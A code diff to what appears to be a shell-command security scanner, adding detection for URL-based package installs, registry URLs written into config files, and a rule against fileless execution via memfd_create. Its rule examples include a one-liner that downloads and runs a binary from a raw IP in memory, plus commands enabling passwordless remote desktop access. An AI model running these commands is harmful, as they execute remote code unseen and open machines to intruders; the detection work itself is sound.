@@ -72,6 +72,13 @@ function sourceTrust(value: string): 'ok' | 'unknown' | 'hostile' {
   return v.startsWith('http://') ? 'hostile' : 'unknown';
 }
 
+/** Subcommands that fetch and install or run a package. */
+const INSTALL_VERBS: Record<string, ReadonlySet<string>> = {
+  pip: new Set(['install', 'download']), pip3: new Set(['install', 'download']), uv: new Set(['pip', 'add', 'run', 'tool']), pipx: new Set(['install', 'run']),
+  npm: new Set(['install', 'i', 'add', 'exec']), pnpm: new Set(['add', 'install', 'dlx']), yarn: new Set(['add', 'dlx']), bun: new Set(['add', 'x', 'install', 'run']),
+  deno: new Set(['run', 'install', 'eval']), cargo: new Set(['install']), gem: new Set(['install']), go: new Set(['run', 'install', 'get']),
+};
+
 const PROXY_VARS = /^(https?_proxy|all_proxy|HTTPS?_PROXY|ALL_PROXY|PIP_INDEX_URL|PIP_EXTRA_INDEX_URL|UV_INDEX_URL|UV_EXTRA_INDEX_URL|NPM_CONFIG_REGISTRY|npm_config_registry|YARN_REGISTRY|GOPROXY|CARGO_REGISTRIES_[A-Z_]+_INDEX)$/;
 
 /** Settings that decide where code, packages, names or traffic come from, with the value they are set to. */
@@ -94,6 +101,8 @@ function sourceSettings(c: SimpleCommand): Array<[string, string]> {
     if (c.name === 'resolvectl' && w === 'dns') out.push([w, a[k + 2] ?? '']);
   }
   for (const x of c.assignments) if (PROXY_VARS.test(x.name)) out.push([x.name, x.value]);
+  // package specs given as URLs: `pip install https://…whl`, `npm install https://….tgz`, `deno run https://…`
+  if (INSTALL_VERBS[c.name]?.has(a[1] ?? '')) for (const w of a.slice(2)) if (/^(git\+)?https?:\/\//.test(w)) out.push([`${c.name} ${a[1]}`, w.replace(/^git\+/, '')]);
   return out;
 }
 
@@ -101,6 +110,11 @@ function redirectedSources(i: AnalysisInput, level: 'hostile' | 'unknown'): stri
   const out: string[] = [];
   for (const c of i.view?.commands ?? []) for (const [k, v] of sourceSettings(c)) if (sourceTrust(v) === level) out.push(`${k} ${v}`);
   for (const x of i.view?.assignments ?? []) if (PROXY_VARS.test(x.name) && sourceTrust(x.value) === level) out.push(`${x.name}=${x.value}`);
+  // index, registry and replacement URLs written into pip, yarn, cargo or git config files
+  for (const f of i.facts.files) if (f.cmd && ['write', 'append', 'edit'].includes(f.access) && /(pip\.conf|\.yarnrc(\.yml)?|\.cargo\/config(\.toml)?|gitconfig|git\/config|\.npmrc)$/.test(f.canonical)) {
+    const text = f.cmd.name === 'tee' ? f.cmd.stdin ?? '' : f.cmd.argv.slice(1).join(' ');
+    for (const url of text.match(/https?:\/\/[^\s"'\\]{1,200}/g) ?? []) if (sourceTrust(url) === level) out.push(`${f.path}: ${url}`);
+  }
   if (level === 'hostile') {
     // a public name pinned in /etc/hosts or a new resolver: every later request can be steered
     for (const f of i.facts.files) if (f.cmd && ['write', 'append', 'edit'].includes(f.access) && /^\/(private\/)?etc\/(hosts|resolv\.conf)$/.test(f.canonical)) {
@@ -546,6 +560,15 @@ export const RULES: readonly Rule[] = [
       return hit ? a.join(' ') : undefined;
     },
     examples: { fire: ['echo P4ss | anydesk --set-password', 'x11vnc -display :0 -nopw -forever -bg', 'sudo /System/Library/CoreServices/RemoteManagement/ARDAgent.app/Contents/Resources/kickstart -activate -configure -access -on -privs -all'], quiet: ['anydesk --version', 'x11vnc -display :0 -localhost -usepw', 'teamviewer info'] },
+  },
+  {
+    id: 'PX-C2-024', name: 'runs-code-from-memory-file', score: 85, tactic: 'defense_evasion', technique: 'T1620', strong: true,
+    message: 'Loads a program into an anonymous memory file and executes it', why: 'memfd_create plus exec runs a downloaded binary that never touches the disk, out of reach of file scanners.',
+    check: (i) => {
+      const s = (i.view?.scripts ?? []).find((x) => x.code.length < 20000 && x.code.includes('memfd_create') && /execv|execve|fexecve|\/proc\/self\/fd|\/proc\/\d+\/fd/.test(x.code));
+      return s ? `${s.lang}: ${s.code.slice(0, 160)}` : undefined;
+    },
+    examples: { fire: ["python3 -c \"import os,urllib.request as u;f=os.memfd_create('a');os.write(f,u.urlopen('http://45.61.136.9/e').read());os.execv('/proc/self/fd/%d'%f,['x'])\"", "python3 -c \"import os;fd=os.memfd_create('x',0);os.write(fd,open('/dev/shm/.p','rb').read());os.fexecve(fd,['x'],{})\""], quiet: ["python3 -c 'import os; print(os.getpid())'", "python3 -c \"import os; fd=os.memfd_create('t'); print(fd)\""] },
   },
 ];
 
